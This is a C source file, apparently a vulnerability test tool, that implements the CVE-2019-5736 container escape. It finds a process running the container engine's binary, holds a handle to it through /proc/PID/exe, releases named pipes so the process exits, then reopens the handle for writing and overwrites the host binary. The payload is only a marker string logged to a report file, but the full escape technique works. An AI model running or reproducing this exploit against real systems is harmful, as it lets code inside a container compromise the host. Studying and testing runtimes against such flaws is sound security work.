/* CVE-2019-5736 from inside a container: find a process of the container that
 * runs the engine's own binary, keep a handle on that binary (/proc/PID/exe),
 * and once no process runs it any more, re-open the handle for writing and
 * overwrite it.
 *
 * usage: exe-attacker TARGET REPORT [PIPE...]
 *   TARGET  argv[0] of the process to go after ("/proc/self/exe" for a
 *           "#!/proc/self/exe" script, "/bin/sh" for a /bin/sh symlink to it),
 *           or "pid:N"
 *   REPORT  file every finding is appended to as it happens, one line each
 *           (the container may die under this program at any moment)
 *   PIPE    named pipes the target's dynamic loader waits on: opened for writing
 *           once its binary is in hand, which lets the target go on and exit
 *
 * Report lines: "scanning", "attempt pid= target= argv0= error=",
 * "opened pid= target= dev= ino= ro= argv0=" (ro=1: the handle's mount is read-only),
 * "released", "no-target",
 * "writable pid=", "wrote pid= bytes=", "refused pid= error=", "done".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/statvfs.h>
#include <time.h>
#include <unistd.h>

#define MAX_PIDS 65536
#define MAX_HANDLES 256
#define FIND_SECONDS 20.0
#define GIVE_UP_ON_TARGET_SECONDS 1.0
#define RELEASE_SECONDS 5.0
#define WRITE_SECONDS 2.0

static int report = -1;

static void say(const char *fmt, ...) {
    char line[768];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(line, sizeof line, fmt, ap);
    va_end(ap);
    if (n > (int)sizeof line - 1)
        n = sizeof line - 1;
    if (write(report, line, n) < 0)
        _exit(2);
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static void pause_briefly(void) {
    struct timespec t = {0, 500 * 1000};
    nanosleep(&t, NULL);
}

/* argv[0] of pid ("" when it cannot be read); /proc/PID/cmdline is
 * NUL-separated, so the first string is argv[0]. */
static void argv0_of(int pid, char *out, size_t size) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    out[0] = 0;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    ssize_t n = read(fd, out, size - 1);
    close(fd);
    out[n > 0 ? n : 0] = 0;
    for (char *c = out; *c; c++)
        if (*c == ' ' || *c == '\n')
            *c = '_';
}

static unsigned hash(const char *s) {
    unsigned h = 5381;
    while (*s)
        h = h * 33 + (unsigned char)*s++;
    return h | 1;
}

/* Whether pid exists and is not a zombie. */
static int alive(int pid) {
    char path[64], stat[512];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, stat, sizeof stat - 1);
    close(fd);
    if (n <= 0)
        return 0;
    stat[n] = 0;
    char *end = strrchr(stat, ')');
    return end && end[1] == ' ' && end[2] != 'Z' && end[2] != 'X';
}

struct handle {
    int pid;
    int fd;
    int written;
    int error;
};

static struct handle handles[MAX_HANDLES];
static int nhandles;
/* Per pid: hash of the argv[0] its binary was opened under (a process that
 * executes something else later is tried again), and the last error said. */
static unsigned opened_as[MAX_PIDS];
static int said_error[MAX_PIDS];

static const char *target_argv0;
static int target_pid = -1;
static int found_target = -1;   /* pid, once its binary is held */
static double target_failing_since;

/* One pass over /proc. */
static void scan(void) {
    DIR *proc = opendir("/proc");
    if (!proc) {
        say("error opendir /proc: %s\n", strerror(errno));
        return;
    }
    struct dirent *e;
    while ((e = readdir(proc))) {
        int pid = atoi(e->d_name);
        if (pid <= 0 || pid >= MAX_PIDS || pid == getpid())
            continue;
        char argv0[256];
        argv0_of(pid, argv0, sizeof argv0);
        if (opened_as[pid] == hash(argv0))
            continue;
        int target = target_pid >= 0 ? pid == target_pid : strcmp(argv0, target_argv0) == 0;
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        int fd = open(path, O_PATH | O_CLOEXEC);
        if (fd < 0) {
            int error = errno;
            if (said_error[pid] != error) {
                said_error[pid] = error;
                say("attempt pid=%d target=%d argv0=%s error=%s\n", pid, target, argv0,
                    strerror(error));
            }
            if (target && target_failing_since == 0)
                target_failing_since = now();
            continue;
        }
        struct stat st;
        if (fstat(fd, &st) < 0 || nhandles == MAX_HANDLES) {
            close(fd);
            continue;
        }
        opened_as[pid] = hash(argv0);
        handles[nhandles++] = (struct handle){pid, fd, 0, 0};
        struct statfs fs;
        int ro = fstatfs(fd, &fs) == 0 && (fs.f_flags & ST_RDONLY);
        say("opened pid=%d target=%d dev=%llu ino=%llu ro=%d argv0=%s\n", pid, target,
            (unsigned long long)st.st_dev, (unsigned long long)st.st_ino, ro, argv0);
        if (target)
            found_target = pid;
    }
    closedir(proc);
}

/* Lets a loader blocked opening one of the pipes go on: it reads end of file. */
static int release(char **pipes, int npipes) {
    int released = 0;
    for (int i = 0; i < npipes; i++) {
        int fd = open(pipes[i], O_WRONLY | O_NONBLOCK | O_CLOEXEC);
        if (fd >= 0) {
            close(fd);
            released++;
        }
    }
    return released;
}

int main(int argc, char **argv) {
    if (argc < 3) {
        fprintf(stderr, "usage: %s TARGET REPORT [PIPE...]\n", argv[0]);
        return 2;
    }
    if (strncmp(argv[1], "pid:", 4) == 0)
        target_pid = atoi(argv[1] + 4);
    else
        target_argv0 = argv[1];
    report = open(argv[2], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (report < 0) {
        perror(argv[2]);
        return 2;
    }
    char **pipes = argv + 3;
    int npipes = argc - 3;
    say("scanning pid=%d\n", getpid());

    double deadline = now() + FIND_SECONDS;
    while (found_target < 0 && now() < deadline) {
        scan();
        if (target_failing_since > 0 && now() - target_failing_since > GIVE_UP_ON_TARGET_SECONDS)
            break;
        pause_briefly();
    }
    if (found_target < 0)
        say("no-target\n");

    /* The target must stop running the binary before it can be written. */
    if (npipes > 0) {
        int target = found_target >= 0 ? found_target : target_pid;
        double until = now() + RELEASE_SECONDS;
        int released = 0;
        do {
            released += release(pipes, npipes);
            pause_briefly();
        } while (now() < until && (target > 0 ? alive(target) : released == 0));
        say("released count=%d\n", released);
    }

    /* Any process left running the binary (ETXTBSY) may still go away. */
    double until = now() + WRITE_SECONDS;
    int pending = nhandles;
    while (pending > 0 && now() < until) {
        for (int i = 0; i < nhandles; i++) {
            struct handle *h = &handles[i];
            if (h->written)
                continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", h->fd);
            int fd = open(path, O_WRONLY | O_CLOEXEC);
            if (fd < 0) {
                h->error = errno;
                continue;
            }
            say("writable pid=%d\n", h->pid);
            static const char mark[] = "overwritten from inside a container\n";
            ssize_t n = write(fd, mark, sizeof mark - 1);
            say("wrote pid=%d bytes=%zd\n", h->pid, n);
            close(fd);
            h->written = 1;
            pending--;
        }
        pause_briefly();
    }
    for (int i = 0; i < nhandles; i++)
        if (!handles[i].written)
            say("refused pid=%d error=%s\n", handles[i].pid, strerror(handles[i].error));
    say("done\n");
    return 0;
}
